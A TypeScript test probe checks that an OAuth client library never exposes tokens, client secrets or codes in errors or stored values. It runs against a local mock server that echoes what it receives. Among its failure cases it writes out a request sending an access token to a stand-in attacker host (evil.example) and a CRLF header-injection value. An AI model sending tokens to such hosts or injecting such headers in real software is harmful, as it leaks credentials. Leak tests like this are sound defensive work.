/**
 * Clients, storages, ports and every error of a provider that echoes what it was sent: none of them can be made into a text with a
 * secret in it.
 *
 * @module
 */

import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { createOAuth } from "../../stdlib/oauth/node.ts";
import { leakIn } from "../secrets.ts";
import type { Probe } from "./probe.ts";
import { textsOf } from "./texts-of.ts";

const secrets = [
  "refresh-token-of-the-row",
  "access-token-of-the-row",
  "client-secret-of-the-row",
  "code-of-the-row",
];

export const probe: Probe = async ({ folder }) => {
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk: Buffer) => {
      body += chunk.toString();
    });
    request.on("end", () => {
      const sent = `${request.headers.authorization ?? ""} ${body} ${secrets.join(" ")}`;
      response.writeHead(request.url === "/broken" ? 500 : 400, { "content-type": "application/json" });
      response.end(
        JSON.stringify({ error: "invalid_request", error_description: sent, error_uri: sent, more: sent }),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const oauth = createOAuth();
  try {
    const storages = [
      oauth.storage.memory(),
      oauth.storage.file(`${folder}/tokens.bin`, "key-of-enough-characters"),
    ];
    for (const token_auth_method of ["client_secret_post", "client_secret_basic"] as const)
      for (const storage of storages) await judge(storage, token_auth_method);
  } finally {
    await oauth.close();
    server.closeAllConnections();
    server.close();
  }

  async function judge(
    storage: ReturnType<typeof oauth.storage.memory>,
    token_auth_method: "client_secret_post" | "client_secret_basic",
  ): Promise<void> {
    const cli = oauth.client.client(
      {
        id: "acme",
        auth_url: `${origin}/authorize`,
        token_url: `${origin}/token`,
        revoke_url: `${origin}/broken`,
      },
      {
        client_id: "client-1",
        client_secret: "client-secret-of-the-row",
        redirect_uri: "https://app.example.com/callback",
        token_auth_method,
        storage,
      },
    );
    await storage.set("acme", {
      access_token: "access-token-of-the-row",
      refresh_token: "refresh-token-of-the-row",
      token_type: "Bearer",
    });
    const pkce = await cli.start_authorization();
    const failures = [
      () => cli.refresh(),
      () => cli.exchange_code(pkce, "code-of-the-row", pkce.state),
      () => cli.client_credentials(),
      () => cli.introspect(),
      () => cli.request("GET", `${origin}/a?t=access-token-of-the-row`),
      () => cli.request("GET", "https://evil.example/access-token-of-the-row"),
      () => cli.request("GET", `${origin}/a`, { headers: { "x-a": "access-token-of-the-row\r\n" } }),
    ];
    const errors = await Promise.all(
      failures.map((fail, at) =>
        fail().then(
          () => assert.fail(`call ${at + 1} did not fail`),
          (thrown: unknown) => thrown,
        ),
      ),
    );
    for (const error of errors) assert.match(String(error), /^HARN-OAU-\d{3}: std\/oauth\//);
    const revoked = await cli.revoke();
    for (const [at, value] of [...errors, cli, storage, revoked, oauth.client, oauth.providers].entries())
      for (const text of textsOf(value))
        assert.equal(
          leakIn(text, [...secrets, pkce.code_verifier]),
          null,
          `value ${at + 1} shows a secret: ${text.slice(0, 200)}`,
        );
  }
};
